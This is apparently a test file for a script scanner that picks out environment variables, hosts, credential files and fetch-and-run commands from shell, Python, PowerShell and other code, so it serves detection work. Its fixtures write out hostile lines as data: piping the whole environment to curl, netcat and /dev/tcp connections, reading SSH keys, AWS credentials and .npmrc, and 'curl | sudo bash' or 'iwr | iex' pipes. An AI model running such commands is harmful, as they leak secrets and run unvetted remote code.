import assert from "node:assert/strict";
import { test } from "node:test";
import { namesIn } from "../../../src/static/inventory/names-in.ts";
import { runsWhatItIsGiven } from "../../../src/static/inventory/commands-in.ts";
import type { ScriptName } from "../../../src/static/inventory/names-in.ts";
import type { FileKind } from "../../../src/static/unpack/unpacked.ts";

/** What is used, and not only mentioned. */
const used = (kind: FileKind, text: string, is: ScriptName["is"]): readonly string[] => [
  ...new Set(
    [...namesIn(kind, text)]
      .filter((name) => name.is === is && name.mentioned !== true)
      .map(({ value }) => value),
  ),
];

const variables: readonly (readonly [FileKind, string, readonly string[]])[] = [
  ["shell", "echo $NPM_TOKEN ${HOME}/x", ["NPM_TOKEN", "HOME"]],
  ["shell", "ROOT_DIR=/x\necho $ROOT_DIR", []],
  ["shell", "curl -d @- x < <(env)", ["(the whole environment)"]],
  [
    "python",
    'import os\nos.environ["A_KEY"]; os.getenv("lower"); os.environ.get(\'B_KEY\')',
    ["A_KEY", "B_KEY", "lower"],
  ],
  ["python", "import os\nsend(dict(os.environ))", ["(the whole environment)"]],
  ["perl", "print $ENV{GH_TOKEN}", ["GH_TOKEN"]],
  ["ruby", 'ENV["X_TOKEN"]; ENV.fetch("y_token")', ["X_TOKEN", "y_token"]],
  ["powershell", "$env:USERNAME; $Env:Path", ["USERNAME", "Path"]],
  ["batch", "echo %USERPROFILE%", ["USERPROFILE"]],
  ["php", "getenv('DB_PASS'); $_ENV['A_B']", ["DB_PASS", "A_B"]],
];
for (const [kind, text, right] of variables)
  test(`variables of ${kind}: ${text.split("\n").at(-1)}`, () => {
    assert.deepEqual(used(kind, text, "variable").toSorted(), right.toSorted());
  });

test("hosts are used in code and mentioned in comments", () => {
  const text =
    "# see https://docs.example.org/\ncurl https://api.example.net/ && nc relay.example.com 443\n";
  assert.deepEqual(used("shell", text, "host"), ["api.example.net", "relay.example.com"]);
  const mentioned = [...namesIn("shell", text)].filter((name) => name.mentioned === true);
  assert.deepEqual(
    mentioned.map(({ value }) => value),
    ["docs.example.org"],
  );
  assert.deepEqual(used("shell", "exec 3<>/dev/tcp/tcp.example.net/80", "host"), [
    "tcp.example.net",
  ]);
});

const files: readonly (readonly [FileKind, string, string])[] = [
  ["shell", "cat ~/.ssh/id_rsa", "~/.ssh/id_rsa"],
  ["shell", 'cp "$HOME/.npmrc" /x', "~/.npmrc"],
  ["python", 'open(os.path.expanduser("~/.aws/credentials"))', "~/.aws/credentials"],
  ["python", 'open(os.path.join(h, ".ssh", "id_ed25519"))', "~/.ssh/id_ed25519"],
  ["powershell", "Get-Content $env:USERPROFILE\\.ssh\\id_rsa", "~/.ssh/id_rsa"],
  ["batch", "type %USERPROFILE%\\.npmrc", "~/.npmrc"],
  ["shell", "cat /etc/machine-id", "/etc/machine-id"],
];
for (const [kind, text, right] of files)
  test(`a file in ${kind}: ${text}`, () => assert.deepEqual(used(kind, text, "file"), [right]));

const commands: readonly (readonly [FileKind, string, string])[] = [
  ["shell", "curl -s x | sudo bash", "curl -s x | sudo bash"],
  ["python", 'import os\nos.system("curl -s x | sh")', "curl -s x | sh"],
  ["python", 'subprocess.run(["git", "push", u])', "git push"],
  ["ruby", "`wget -q x`", "wget -q x"],
  ["php", "shell_exec('nc a 1')", "nc a 1"],
];
for (const [kind, text, right] of commands)
  test(`a command of ${kind}: ${text}`, () =>
    assert.deepEqual(used(kind, text, "command"), [right]));

test("what is fetched and run at once is told from what is only fetched", () => {
  for (const line of [
    "curl -s x | sh",
    "echo x | base64 -d | sudo bash",
    "bash -c $(curl x)",
    "bash <(curl -s x)",
    "iwr x | iex",
  ])
    assert.ok(runsWhatItIsGiven(line), line);
  for (const line of ["curl x", "curl x | jq .", "sh run.sh", "cat a | grep b"])
    assert.ok(!runsWhatItIsGiven(line), line);
});
